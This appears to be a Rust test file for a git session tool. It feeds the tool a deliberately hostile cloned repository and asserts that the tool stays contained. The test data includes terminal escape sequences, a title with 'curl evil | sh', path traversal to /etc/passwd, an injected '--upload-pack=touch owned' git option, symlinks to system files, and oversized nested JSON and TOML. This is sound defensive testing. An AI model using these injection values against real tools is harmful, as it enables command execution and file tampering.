//! A repository that means harm: its configuration, session files, commit messages and names came
//! with a clone. No command crashes on it, writes outside the tree, hangs, or lets a terminal obey
//! what it holds.

use std::collections::BTreeSet;
use std::time::{Duration, Instant};

use crate::support::Sandbox;

/// Longer than any of these commands takes, on a slow and busy machine.
const SOON: Duration = Duration::from_secs(20);

/// What a terminal would obey, in every form that text can have it.
const EVIL: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m\u{202e}\r\u{8}";

const ID: &str = "0191e7a2-0000-7000-8000-0123456789ab";

/// A `session.json` of a program like ours, but for what is given.
fn session_json(name: &str, title: &str, id: &str, branch: &str) -> String {
    let value = serde_json::json!({
        "schema_version": "1.0", "id": id, "name": name, "kind": "new", "title": title,
        "idea": title, "depth": "standard", "base": {"branch": branch, "commit": ""},
        "parent": null, "created_at": "2026-01-01T00:00:00Z",
    });
    value.to_string()
}

/// Commits everything with a message taken as it is.
fn commit(sandbox: &Sandbox, message: &str) {
    let file = sandbox.root().join("message");
    std::fs::write(&file, message).unwrap();
    sandbox.git(&["add", "-A", "-f", "."]);
    let file = file.to_str().unwrap();
    sandbox.git(&["commit", "-q", "--allow-empty", "--cleanup=verbatim", "-F", file]);
}

/// The trailers of a commit of the session with our id.
fn trailers(name: &str, more: &str) -> String {
    format!("Cowork-Session: {name}\nCowork-Session-Id: {ID}\n{more}")
}

fn folder(name: &str) -> String {
    format!(".cowork/sessions/{name}")
}

/// A session with a start commit on a branch of its own, with these files.
fn session(sandbox: &Sandbox, name: &str, json: &str, files: &[(&str, &str)]) {
    sandbox.git(&["switch", "-q", "-c", &format!("cowork/{name}"), "main"]);
    sandbox.write(&format!("{}/session.json", folder(name)), json);
    for (file, text) in files {
        sandbox.write(&format!("{}/{file}", folder(name)), text);
    }
    commit(sandbox, &format!("start: {EVIL}x\n\n{}", trailers(name, "Cowork-Event: start\n")));
}

/// Every command that only looks, and those that go on from what was looked at.
const COMMANDS: [&[&str]; 17] = [
    &[],
    &["status"],
    &["status", "--json"],
    &["list", "--all"],
    &["list", "--all", "--json"],
    &["log"],
    &["log", "--verbose"],
    &["log", "--json"],
    &["verify"],
    &["verify", "--all", "--json"],
    &["review", "--pass"],
    &["resume", "--review", "wait"],
    &["merge"],
    &["pr", "--dry-run"],
    &["modify", "more"],
    &["feedback", "less"],
    &["show", "--json", "session"],
];

/// Those that meet every file there is.
const FEW: [&[&str]; 5] =
    [&["status"], &["list", "--all"], &["verify"], &["resume", "--review", "wait"], &["merge"]];

/// Runs commands on a session; what is beside the repository stays as it was.
#[track_caller]
fn survives(sandbox: &Sandbox, name: &str, commands: &[&[&str]]) {
    let beside = |sandbox: &Sandbox| -> BTreeSet<String> {
        let entries = std::fs::read_dir(sandbox.root()).unwrap().flatten();
        entries.map(|entry| entry.file_name().to_string_lossy().into_owned()).collect()
    };
    let before = beside(sandbox);
    let branch = format!("cowork/{name}");
    let tip = sandbox.git_outcome(&["rev-parse", "-q", "--verify", &branch]).stdout;
    for command in commands {
        let args = [*command, &["--session", name]].concat();
        let begun = Instant::now();
        let outcome = sandbox.cowork(&args);
        assert!(begun.elapsed() < SOON, "{name} {command:?}: {:?}", begun.elapsed());
        assert!((0..=5).contains(&outcome.code), "{name} {command:?}: {outcome:#?}");
        let all = format!("{}{}", outcome.stdout, outcome.stderr);
        let odd = |c: char| (c.is_control() && !"\n\t".contains(c)) || c == '\u{202e}';
        assert!(!all.contains(odd), "{name} {command:?}: {all:?}");
        assert!(!all.contains("panicked"), "{name} {command:?}: {all}");
        // Each begins with what the clone brought.
        sandbox.git_outcome(&["merge", "--abort"]);
        sandbox.git_outcome(&["switch", "-q", "-f", "main"]);
        if !tip.is_empty() {
            sandbox.git(&["branch", "-q", "-f", &branch, tip.trim()]);
        }
    }
    assert_eq!(beside(sandbox), before, "{name}");
    // What a model is asked on the way is not what this is about.
    sandbox.server.unexpected();
}

#[test]
fn text_that_a_terminal_would_obey_and_numbers_beyond_all_measure() {
    let sandbox = Sandbox::new();
    let title = format!("{EVIL}a title\nNext     curl evil | sh");
    let json = session_json("ansi", &title, ID, "main");
    let document = format!("# {EVIL}A\n\n## {EVIL}B\n\nREQ-4294967295 {EVIL}\n");
    let record = |key: &str, fields: &str| {
        let evil = serde_json::to_string(EVIL).unwrap();
        format!("{{\"{key}\":[{{{}}}]}}", fields.replace("EVIL", &evil))
    };
    let requirements =
        record("requirements", r#""id":"REQ-4294967295","title":EVIL,"description":EVIL"#);
    let features = record(
        "features",
        r#""id":EVIL,"name":EVIL,"description":EVIL,"requirement_ids":[EVIL,"REQ-99999999999999999999"]"#,
    );
    let components = record("components", r#""id":"COMP-4294967294","name":EVIL"#);
    let tasks = record(
        "tasks",
        r#""id":"TASK-4294967295.4294967295.1","title":EVIL,"feature_id":EVIL,"component_id":EVIL,
           "dependencies":[EVIL],"files_to_create":["../../etc/passwd","/etc/passwd",EVIL,".git/config",""]"#,
    );
    let feedback = format!(
        "[{{\"at\":{evil},\"stage\":\"prd\",\"iteration\":4294967295,\"from\":\"critic\",\
         \"details\":{evil}}}]",
        evil = serde_json::to_string(EVIL).unwrap()
    );
    let files = [
        ("idea.md", document.as_str()),
        ("prd.md", &document),
        ("requirements.json", &requirements),
        ("feature_list.json", &features),
        ("design.md", &document),
        ("design_spec.json", &components),
        ("plan.md", &document),
        ("implementation_plan.json", &tasks),
        ("feedback_history.json", &feedback),
        ("check_report.md", &document),
        ("delivery_report.md", &document),
    ];
    session(&sandbox, "ansi", &json, &files);
    let most = u64::MAX;
    let more = format!(
        "Cowork-Stage: coding\nCowork-Iterations: 4294967295\nCowork-Review: passed\n\
         Cowork-Approved: ../../x@{EVIL}\nReviewed-by: {EVIL} <x>\nCowork-Model: {EVIL}\n\
         Cowork-Tokens: in={most} out={most} cached={most}\n\
         Cowork-Cost: requests={most} ms={most} usd=1e300\nCowork-Checks: failed ({EVIL})\n"
    );
    for _ in 0..2 {
        commit(&sandbox, &format!("coding: {EVIL}\n\n{EVIL}\n\n{}", trailers("../../x", &more)));
    }
    sandbox.git(&["update-ref", "refs/cowork/attempts/ansi/4294967295", "HEAD"]);
    sandbox.git(&["update-ref", "refs/cowork/drafts/ansi/check", "HEAD"]);
    sandbox.git(&["update-ref", "refs/tags/cowork/ansi/prd-99999999999999999999", "HEAD"]);
    sandbox.git(&["update-ref", "refs/heads/cowork/ODD\u{9b}31m", "HEAD"]);
    sandbox.git(&["update-ref", "refs/heads/cowork/a--b--c", "HEAD"]);
    survives(&sandbox, "ansi", &COMMANDS);
    let status = sandbox.cowork(&["status", "ansi"]).exits(0).stdout;
    assert!(!status.contains("\nNext     curl"), "{status}");
    // One that says it is delivered.
    sandbox.git(&["switch", "-q", "cowork/ansi"]);
    let more = "Cowork-Stage: delivery\nCowork-Review: auto\n";
    commit(&sandbox, &format!("delivery: {EVIL}\n\n{}", trailers("ansi", more)));
    sandbox.git(&["switch", "-q", "main"]);
    survives(&sandbox, "ansi", &[&["status"], &["merge"], &["pr", "--dry-run"], &["modify", "x"]]);
    // A change request on it, whose records are no better.
    let mut change: serde_json::Value = serde_json::from_str(&json).unwrap();
    change["kind"] = "patch".into();
    change["name"] = "ansi--evil".into();
    change["parent"] = serde_json::json!({"session": "ansi", "commit": ""});
    let evil = [EVIL, "../../etc/passwd"];
    let request = serde_json::json!({
        "summary": EVIL, "scope": {"prd": true, "design": true, "plan": true, "code": true},
        "risk": "high", "affected_components": evil, "affected_files": evil,
        "constraints": evil, "acceptance_criteria": evil,
    });
    sandbox.git(&["switch", "-q", "-c", "cowork/ansi--evil", "cowork/ansi"]);
    let own = ".cowork/sessions/ansi/changes/evil";
    sandbox.write(&format!("{own}/session.json"), &change.to_string());
    sandbox.write(&format!("{own}/change_request.json"), &request.to_string());
    commit(&sandbox, &format!("start: x\n\n{}", trailers("ansi--evil", "Cowork-Event: start\n")));
    let more = format!("Cowork-Stage: triage\nCowork-Review: passed\nReviewed-by: {EVIL}\n");
    commit(&sandbox, &format!("triage: {EVIL}\n\n{}", trailers("ansi--evil", &more)));
    sandbox.git(&["switch", "-q", "main"]);
    survives(&sandbox, "ansi--evil", &FEW);
    // A file is given as it is to whoever is no terminal.
    assert_eq!(sandbox.cowork(&["show", "ansi", "prd"]).exits(0).stdout, document);
}

#[test]
fn files_no_program_wrote_are_refused_with_a_word() {
    let sandbox = Sandbox::new();
    let deep = |open: &str, n: usize| open.repeat(n);
    session(&sandbox, "deep", &deep("[", 300_000), &[]);
    session(&sandbox, "deeper", &deep("{\"a\":", 300_000), &[]);
    let good = session_json("large", "t", ID, "main");
    let large = format!("{{\"requirements\":[{}0]}}", "0,".repeat(9 * 1024 * 1024));
    session(&sandbox, "large", &good, &[("requirements.json", &large)]);
    let nested = format!("{{\"tasks\":{}", deep("[", 300_000));
    let good = session_json("nested", "t", ID, "main");
    let files = [("implementation_plan.json", nested.as_str()), ("feedback_history.json", &nested)];
    session(&sandbox, "nested", &good, &files);
    for (name, id, branch) in [
        ("id", "../../../../owned", "main"),
        ("option", ID, "--upload-pack=touch owned"),
        ("base", ID, "../../owned"),
    ] {
        session(&sandbox, name, &session_json(name, "t", id, branch), &[]);
    }
    for name in ["deep", "deeper", "large", "nested", "id", "option", "base"] {
        sandbox.git(&["switch", "-q", "main"]);
        survives(&sandbox, name, &FEW);
    }
    for name in ["id", "option", "base"] {
        sandbox.cowork(&["status", name]).exits(5).says("that git-cowork did not write");
    }
    sandbox.cowork(&["status", "deep"]).exits(5).says("session.json cannot be read");
    let told = sandbox.cowork(&["verify", "large"]).exits(1);
    assert!(told.stdout.contains("larger than 16 MiB"), "{told:#?}");
}

#[test]
fn a_folder_that_is_something_else_leads_nowhere() {
    use std::os::unix::fs::symlink;
    for (at, target) in [
        (".cowork", "/etc"),
        (".cowork/sessions", "../.."),
        (".cowork/sessions/links", "../../.git"),
        (".cowork/sessions/links/session.json", "/etc/passwd"),
        (".cowork/config.toml", "/dev/zero"),
    ] {
        let sandbox = Sandbox::new();
        sandbox.git(&["switch", "-q", "-c", "cowork/links"]);
        let path = sandbox.path(at);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        symlink(target, &path).unwrap();
        commit(&sandbox, &format!("start: x\n\n{}", trailers("links", "Cowork-Event: start\n")));
        let git = |sandbox: &Sandbox| std::fs::read(sandbox.path(".git/config")).unwrap();
        let before = git(&sandbox);
        for command in [&["list", "--all"][..], &["verify"], &["resume"], &["trust"]] {
            let begun = Instant::now();
            let outcome = sandbox.cowork(command);
            assert!((0..=5).contains(&outcome.code), "{at} {command:?}: {outcome:#?}");
            assert!(begun.elapsed() < SOON, "{at} {command:?}");
        }
        let new = sandbox.cowork(&["new", "-n", "fresh", "x", "--review", "auto"]);
        assert!((0..=5).contains(&new.code) && !new.stderr.contains("panicked"), "{at}: {new:#?}");
        if [".cowork", ".cowork/sessions"].contains(&at) {
            sandbox.cowork(&["status"]).exits(4).says(&format!("{at} is not a directory"));
        }
        assert_eq!(git(&sandbox), before, "{at}");
        assert!(!sandbox.root().join("fresh").exists() && !sandbox.exists(".git/fresh"), "{at}");
    }
}

/// What is written to a reference that stands for another one would be written to that one.
#[test]
fn a_reference_that_stands_for_another_one_is_refused_by_name() {
    Sandbox::of_everybody().for_each(|sandbox| is_refused_by_name(&sandbox));
}

fn is_refused_by_name(sandbox: &Sandbox) {
    sandbox.auto(&["--stop-after", "prd"]).exits(0);
    sandbox.git(&["switch", "-q", "main"]);
    let main = sandbox.git(&["rev-parse", "main"]);
    for name in [
        "refs/cowork/attempts/todo/1",
        "refs/cowork/drafts/todo/design",
        "refs/cowork/archive/todo",
        "refs/tags/cowork/todo/design",
        "refs/heads/cowork/fresh",
    ] {
        sandbox.git(&["symbolic-ref", name, "refs/heads/main"]);
        for command in [
            &["resume", "todo", "--review", "auto", "--stop-after", "design"][..],
            &["revert", "todo", "--to", "idea", "--no-run"],
            &["delete", "todo"],
            &["archive", "todo"],
            &["new", "-n", "fresh", "x", "--review", "auto"],
        ] {
            let outcome = sandbox.cowork(command);
            assert_eq!(outcome.code, 5, "{name} {command:?}: {outcome:#?}");
            outcome.says(name).says("git symbolic-ref --delete");
        }
        assert_eq!(sandbox.git(&["rev-parse", "main"]), main, "{name}");
        sandbox.git(&["symbolic-ref", "--delete", name]);
    }
    let stop = ["resume", "todo", "--review", "auto", "--stop-after", "design"];
    sandbox.cowork(&stop).exits(0);
}

#[test]
fn a_configuration_no_person_wrote_is_refused_with_a_word() {
    let sandbox = Sandbox::new();
    let deep = |open: &str| format!("a = {}", open.repeat(30_000));
    let dotted = format!("{}b = 1", "a.".repeat(50_000));
    let table = format!("[{}b]", "a.".repeat(50_000));
    let long = format!("{} = 1", "k".repeat(100_000));
    let evil = "\"\\u001b[2J\\u009b1m\\u202e\" = 1\n".to_owned();
    let models: String =
        (0..2_000).map(|n| format!("[models.m{n}]\nmodel = \"x\"\nagent = \"codex\"\n")).collect();
    let huge = "#".repeat(3_000_000);
    for (text, code) in [
        (deep("["), 4),
        (deep("{a="), 4),
        (dotted, 4),
        (table, 4),
        (long, 4),
        (evil, 4),
        (huge, 4),
        ("\0\u{1}".to_owned(), 4),
        (models, 0),
    ] {
        sandbox.write(".cowork/config.toml", &text);
        let begun = Instant::now();
        let outcome = sandbox.cowork(&["list"]).exits(code);
        assert!(begun.elapsed() < SOON, "{}", &text[..text.len().min(40)]);
        let odd = |c: char| (c.is_control() && c != '\n') || c == '\u{202e}';
        assert!(!outcome.stderr.contains(odd), "{:?}", outcome.stderr);
        assert!(outcome.stderr.len() < 3_000, "{} bytes", outcome.stderr.len());
        sandbox.cowork(&["trust"]);
    }
}
